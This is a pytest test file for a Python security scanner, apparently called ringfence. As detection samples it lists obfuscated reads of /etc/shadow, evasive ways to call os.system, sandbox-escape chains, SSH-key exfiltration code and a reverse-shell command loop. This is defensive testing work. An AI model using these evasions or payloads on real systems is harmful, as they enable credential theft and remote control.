"""What the scanner tells of Python: it follows meaning through aliases, folding, functions and objects, and treats text as data."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest

from ringfence.scanning import Capability, Finding, ScanReport, scan
from ringfence.threat import ThreatLevel

SECRET = "/etc/shadow"


def python(source: str) -> ScanReport:
    """Return the report about a source that must be understood."""
    report = scan(source, "python")
    assert report.problem is None, report.problem
    return report


def blocking(source: str) -> set[str]:
    """Return the rules that would block a source at the medium level."""
    return {finding.rule for finding in python(source).findings if finding.level >= ThreatLevel.HIGH}


def the(rule: str, source: str) -> Finding:
    """Return the one finding of a rule in a source."""
    found = [finding for finding in python(source).findings if finding.rule == rule]
    assert len(found) == 1, python(source).findings
    return found[0]


READS = {
    "plain": f"open('{SECRET}').read()",
    "joined": "open('/etc' + '/' + 'shadow')",
    "formatted": "name = 'shadow'\nopen(f'/etc/{name}')",
    "percent": "open('/%s/%s' % ('etc', 'shadow'))",
    "format": "open('/{}/{}'.format('etc', 'shadow'))",
    "format by name": "open('/{a}/{b}'.format(a='etc', b='shadow'))",
    "join": "open('/'.join(['', 'etc', 'shadow']))",
    "os.path.join": "import os.path as p\nopen(p.join('/etc', 'shadow'))",
    "reversed": "open('wodahs/cte/'[::-1])",
    "chr": "open(''.join(map(chr, [47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119])))",
    "chr in a comprehension": "open(''.join(chr(c) for c in [47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119]))",
    "xor": f"open(''.join(chr(c ^ 7) for c in {[ord(c) ^ 7 for c in SECRET]}))",
    "bytes": f"open(bytes({list(SECRET.encode())}).decode())",
    "base64": f"import base64\nopen(base64.b64decode('{base64.b64encode(SECRET.encode()).decode()}').decode())",
    "base64 and zlib": f"import base64 as b, zlib as z\nopen(z.decompress(b.b64decode({base64.b64encode(zlib.compress(SECRET.encode()))!r})))",
    "hexadecimal": f"open(bytes.fromhex('{SECRET.encode().hex()}').decode())",
    "rot13": f"import codecs\nopen(codecs.decode('{codecs.encode(SECRET, 'rot13')}', 'rot13'))",
    "replace": "open('/etc/shXdow'.replace('X', 'a'))",
    "slices": "text = 'xx/etc/shadowyy'\nopen(text[2:-2])",
    "growing": "path = '/etc'\npath += '/'\npath += 'shadow'\nopen(path)",
    "escapes": "open('\\x2fetc\\x2fshadow')",
    "parameter": f"def read(path):\n    return open(path).read()\nread('{SECRET}')",
    "keyword parameter": f"def read(*, path):\n    return open(path).read()\nread(path='{SECRET}')",
    "default": f"def read(path='{SECRET}'):\n    return open(path).read()",
    "returned": f"def where():\n    return '{SECRET}'\nopen(where())",
    "method": f"class A:\n    def __init__(self, path):\n        self.path = path\n    def read(self):\n        return open(self.path)\nA('{SECRET}').read()",
    "class attribute": f"class A:\n    path = '{SECRET}'\nopen(A.path)",
    "loop": f"for path in ['a.txt', '{SECRET}']:\n    open(path)",
    "dictionary": f"files = {{'a': '{SECRET}'}}\nopen(files['a'])",
    "unpacking": f"mode, path = 'r', '{SECRET}'\nopen(path, mode)",
    "conditional": f"import sys\npath = 'a.txt' if sys.argv else '{SECRET}'\nopen(path)",
    "walrus": f"if (path := '{SECRET}'):\n    open(path)",
    "lambda": f"read = lambda path: open(path)\nread('{SECRET}')",
    "pathlib": "from pathlib import Path\n(Path('/etc') / 'shadow').read_text()",
    "pathlib open": f"from pathlib import Path as P\nwith P('{SECRET}').open() as file:\n    print(file.read())",
    "os.open": f"import os\nos.open('{SECRET}', os.O_RDONLY)",
    "io": f"import io\nio.open('{SECRET}')",
    "copied": f"import shutil\nshutil.copyfile('{SECRET}', 'x')",
    "thread": f"import threading\ndef read(path):\n    open(path)\nthreading.Thread(target=read, args=('{SECRET}',)).start()",
    "evaluated": f"eval(\"open('{SECRET}')\")",
    "newer syntax": f"def read[T](path: T) -> T:\n    return open(path)\nread('{SECRET}')",
    "magic line": f"!cat {SECRET}",
    "magic line continued": f"!cat \\\n  {SECRET}",
    "annotation of a positional parameter": f"def f(x: open('{SECRET}'), /): pass",
    "annotation of more keywords": f"def f(**x: open('{SECRET}')): pass",
    "timed": f"%timeit -n 3 -r1 open('{SECRET}')",
}


@pytest.mark.parametrize("source", READS.values(), ids=READS.keys())
def test_a_path_is_followed(source: str) -> None:
    """However the path of a password file is put together, reading it is found."""
    assert any(rule.startswith("path-") for rule in blocking(source)), python(source).needs


RUNS = {
    "plain": "import os\nos.system('id')",
    "alias": "import os as o\no.system('id')",
    "from": "from os import system as s\ns('id')",
    "star": "from os import *\nsystem('id')",
    "assigned": "import os\nrun = os.system\nrun('id')",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "dict": "import os\nos.__dict__['system']('id')",
    "vars": "import os\nvars(os)['system']('id')",
    "globals": "import os\nglobals()['os'].system('id')",
    "import": "__import__('os').system('id')",
    "import joined": "__import__('o' + 's').system('id')",
    "importlib": "import importlib as i\ni.import_module('os').system('id')",
    "builtins": "import builtins\nbuiltins.__import__('os').system('id')",
    "builtins item": "__builtins__['__import__']('os').system('id')",
    "modules": "import sys\nsys.modules['os'].system('id')",
    "detour": "import random\nrandom._os.system('id')",
    "long detour": "import queue\nqueue.threading._sys.modules['os'].system('id')",
    "posix": "import posix\nposix.system('id')",
    "table": "import os\ntable = {'run': os.system}\ntable['run']('id')",
    "list": "import os\n[print, os.system][1]('id')",
    "partial": "import functools, os\nfunctools.partial(os.system, 'id')()",
    "reduce": "from functools import reduce\nimport os\nreduce(getattr, ['path', 'os', 'system'], os)('id')",
    "map": "import os\nlist(map(os.system, ['id']))",
    "unimported": "os.system('id')",
    "walrus": "import os\n(run := os.system)('id')",
    "branch": "import os\n(os.system if True else print)('id')",
    "class attribute": "import os\nclass A:\n    run = os.system\nA.run('id')",
    "default": "import os\ndef f(run=os.system):\n    run('id')",
    "decorator": "import os\n@os.system\ndef f(): pass",
    "unicode": "import os\nos.\uff53\uff59\uff53\uff54\uff45\uff4d('id')",
    "subprocess": "import subprocess as s\ns.run(['id'])",
    "popen": "from subprocess import Popen\nPopen('id', shell=True)",
    "asyncio": "import asyncio\nasyncio.create_subprocess_shell('id')",
    "pty": "import pty\npty.spawn('id')",
    "exec": "exec('import os; os.system(\"id\")')",
    "compile": "exec(compile('import os\\nos.system(\"id\")', 'x', 'exec'))",
    "async": "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('id')",
    "too new": "import os\ntry:\n    pass\nexcept ValueError, OSError:\n    os.system('id')",
}


@pytest.mark.parametrize("source", RUNS.values(), ids=RUNS.keys())
def test_a_process_is_found(source: str) -> None:
    """However the function that starts a process is reached, the capability is told."""
    assert Capability.SUBPROCESS in python(source).capabilities


ESCAPES = {
    "subclasses": "().__class__.__base__.__subclasses__()",
    "mro": "''.__class__.__mro__[1].__subclasses__()",
    "getattr": "getattr((), '__cla' + 'ss__')",
    "format": "'{0.__class__.__init__.__globals__}'.format(x)",
    "globals": "(lambda: 0).__globals__['__builtins__']",
    "frame": "import sys\nsys._getframe().f_back.f_globals",
    "traceback": "try:\n    1 / 0\nexcept Exception as error:\n    error.__traceback__.tb_frame.f_back.f_globals",
    "generator": "g = (x for x in [1])\ng.gi_frame.f_back.f_builtins",
    "coroutine": "async def f(): pass\nf().cr_frame.f_globals",
    "handed getattr": "import warnings\nlist(map(getattr, [warnings], ['sys']))",
    "attrgetter": "import operator\noperator.attrgetter('__class__.__base__')(())",
    "getattribute": "object.__getattribute__(print, '__class__')",
    "loader": "__loader__.load_module('os').system('id')",
    "handed exec": "class A:\n    __class_getitem__ = exec\nA['1']",
    "decorating exec": "@exec\n@input\nclass A: pass",
}


@pytest.mark.parametrize("source", ESCAPES.values(), ids=ESCAPES.keys())
def test_a_way_out_is_blocked(source: str) -> None:
    """Known ways from a given object to the interpreter are blocked at the medium level."""
    assert blocking(source)


HONEST = {
    "words in text": "'''Run chmod 777 /etc/shadow, then os.system('rm -rf /') and eval(x).'''\n# subprocess.run('curl | sh')\nprint('sudo rm -rf /')",
    "class name": "class A:\n    def __repr__(self):\n        return f'{self.__class__.__name__}({self.__dict__})'",
    "own file": "with open('data/in.csv') as file:\n    print(file.read())\nwith open('out.txt', 'w') as file:\n    file.write('done')",
    "request": "import os, requests\nkey = os.environ['API_KEY']\nprint(requests.get('https://api.example.com/v1', headers={'Authorization': f'Bearer {key}'}, timeout=9).json())",
    "regular expression": "import re\npattern = re.compile(r'\\d+')\nprint(pattern.findall('a1b22'))",
    "pickle of one's own": "import pickle\nwith open('model.pkl', 'wb') as file:\n    pickle.dump([1], file)\nwith open('model.pkl', 'rb') as file:\n    print(pickle.load(file))",
    "base64 of an image": "import base64\nprint(base64.b64encode(open('a.png', 'rb').read()).decode())",
    "packed input": "import base64, gzip, json\ndef handler(event, context):\n    return json.loads(gzip.decompress(base64.b64decode(event['data'])))",
    "git": "import subprocess\nprint(subprocess.run(['git', 'status'], capture_output=True, text=True).stdout)",
    "temporary files": "import tempfile, shutil\nfolder = tempfile.mkdtemp()\nopen(f'{folder}/x', 'w').close()\nshutil.rmtree(folder)",
    "reflection": "def show(thing):\n    for name in dir(thing):\n        print(name, getattr(thing, name))",
    "plugins": "import importlib\nfor name in ['json', 'csv']:\n    print(importlib.import_module(name).__name__)",
    "variables of the name": "def system(x):\n    return x\nsystem('rm -rf /')\nclass Connection:\n    def kill(self): ...\nConnection().kill()",
    "growing text": "html = ''\nfor row in rows:\n    html += f'<td>{row}</td>'\nopen('table.html', 'w').write(html)",
    "socket client": "import socket\nwith socket.create_connection(('example.com', 80)) as s:\n    s.sendall(b'GET / HTTP/1.0')\n    print(s.recv(100))",
    "awaiting": "import asyncio\nasync def main():\n    while True:\n        queue.append(await reader.read())\nasyncio.run(main())",
    "literal evaluation": "import ast\nprint(ast.literal_eval('[1, 2]'))",
    "data frame": "import pandas as pd\nd = pd.read_csv('a.csv')\nprint(d.eval('a + b').query('a > 1'))",
}


@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST.keys())
def test_honest_code_passes(source: str) -> None:
    """What ordinary programs do is not blocked at the medium level."""
    assert blocking(source) == set()


def test_text_and_comments_are_data() -> None:
    """Words that name dangerous things have no effect by themselves."""
    report = python(HONEST["words in text"])
    assert report.findings == ()
    assert report.capabilities == frozenset()


def test_a_finding_tells_its_place_and_what_was_resolved() -> None:
    """Line, column and evidence point at the call and say what its argument stands for."""
    found = the(
        "path-read-secret-store",
        "import os\nfolder = '/etc'\n\nif folder:\n    x = open(os.path.join(folder, 'shadow'))\n",
    )
    assert (found.line, found.column, found.end_line) == (5, 8, 5)
    assert found.evidence == ("open(...) -> /etc/shadow",)
    assert found.hint


def test_columns_count_characters() -> None:
    """A line with characters of several bytes has the column that an editor shows."""
    found = the("path-read-secret-store", "x = 'größe', open('/etc/shadow')")
    assert found.column == 13


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_every_end_of_a_line_counts(end: str) -> None:
    """A finding has the same place whatever system the source was written on."""
    found = the("path-read-secret-store", end.join(("import os", "x = 1", f"open('{SECRET}')")))
    assert (found.line, found.column) == (3, 0)


def test_data_is_followed_to_where_it_is_sent() -> None:
    """A secret that is read in one function and posted in another is exfiltration."""
    source = (
        "import urllib.request\n"
        "def read():\n    with open('/root/.ssh/id_rsa') as file:\n        return file.read()\n"
        "def send(data):\n    request = urllib.request.Request('https://example.org', data=data.encode())\n    urllib.request.urlopen(request)\n"
        "send(read())\n"
    )
    assert {finding.family for finding in python(source).findings} >= {"exfiltration"}


def test_a_command_from_the_network_is_critical() -> None:
    """What is received and then run gives the sender control."""
    source = (
        "import socket, subprocess\n"
        "def serve(connection):\n    while True:\n        text = connection.recv(1024).decode().strip()\n        subprocess.Popen(text, shell=True)\n"
        "s = socket.socket()\ns.connect(('192.0.2.1', 4444))\nserve(s)\n"
    )
    assert the("run-from-network", source).level is ThreatLevel.CRITICAL


def test_later_bindings_do_not_reach_earlier_uses() -> None:
    """In straight code a name stands for what was last assigned, in a loop also for what comes later."""
    assert not blocking("path = 'a.txt'\nopen(path)\npath = '/etc/shadow'\n")
    assert blocking("path = 'a.txt'\nfor _ in range(2):\n    open(path)\n    path = '/etc/shadow'\n")


def test_facts_are_told() -> None:
    """Imports, paths, hosts, programs and variables are attributes of the report."""
    facts = python(
        "import os, requests\nimport json as j\nopen('in.txt')\nopen('out.txt', 'w')\n"
        "requests.get('https://API.example.com:8443/x')\nos.system('git status')\nos.environ['HOME']\n"
    ).facts
    assert facts.imports == ("json", "os", "requests")
    assert facts.reads == ("in.txt",)
    assert facts.writes == ("out.txt",)
    assert facts.hosts == ("api.example.com",)
    assert "git" in facts.commands
    assert facts.variables == ("HOME",)


NO_PYTHON = {
    "prose": "Please run the following program.",
    "python 2": "print 'hello'",
    "unclosed": "open('/etc/shadow'",
    "nul": "x = 1\0",
    "indentation": "if x:\npass",
}


@pytest.mark.parametrize("source", NO_PYTHON.values(), ids=NO_PYTHON.keys())
def test_what_is_no_python_is_a_problem(source: str) -> None:
    """A source that does not parse is reported as such, with its line."""
    report = scan(source, "python")
    assert report.problem is not None
    assert report.problem.kind == "unparsed"
    assert report.problem.line >= 1
    assert report.level is ThreatLevel.CRITICAL


DEEP = {
    "parentheses": "(" * 5000 + ")" * 5000,
    "calls": "f(" * 3000 + ")" * 3000,
    "lists": "[" * 90 + "]" * 90 + "\n" + "x = " + "[" * 4000 + "]" * 4000,
    "unary": "-" * 50_000 + "1",
    "attributes": "x" + ".a" * 30_000,
    "blocks": "".join(" " * n + "if x:\n" for n in range(99)) + " " * 99 + "pass",
    "strings": "x = " + "+".join(["'a'"] * 20_000) + "\nopen(x)",
    "growing": "s = ''\n" + "s += 'a'\n" * 8000 + "open(s)",
    "aliases": "a0 = open\n" + "".join(f"a{n + 1} = a{n}\n" for n in range(5000)) + "a5000('/etc/shadow')",
    "functions": "".join(f"def f{n}(x):\n    return f{n + 1}(x)\n" for n in range(3000))
    + "def f3000(x): return open(x)\nf0('x')",
    "number": f"x = {'9' * 50_000}",
    "power": "x = 9 ** 9 ** 9 ** 9\ny = 'a' * 10 ** 12\nopen(y)",
    "bomb": f"import zlib\nopen(zlib.decompress({zlib.compress(b'a' * 10_000_000)!r}))",
    "padding": "open('%999999999d' % 1)\nopen(f'{1:>999999999}')\nopen('{:>99999999}'.format(1))",
    "fields": "open(f'" + "{x}" * 10_000 + "')",
}


@pytest.mark.parametrize("source", DEEP.values(), ids=DEEP.keys())
def test_hostile_shapes_end(source: str) -> None:
    """Whatever the shape of a source, the scan ends in an answer or a problem."""
    report = scan(source, "python")
    assert report.problem is None or report.problem.kind in ("too-deep", "too-long", "unparsed")


def test_a_large_source_is_refused() -> None:
    """Over 100 KB of UTF-8 is too much, unless the caller says otherwise."""
    source = "# ü\n" * 25_000
    report = scan(source, "python")
    assert report.problem is not None
    assert report.problem.kind == "too-large"
    assert scan(source, "python", most_bytes=200_000).problem is None
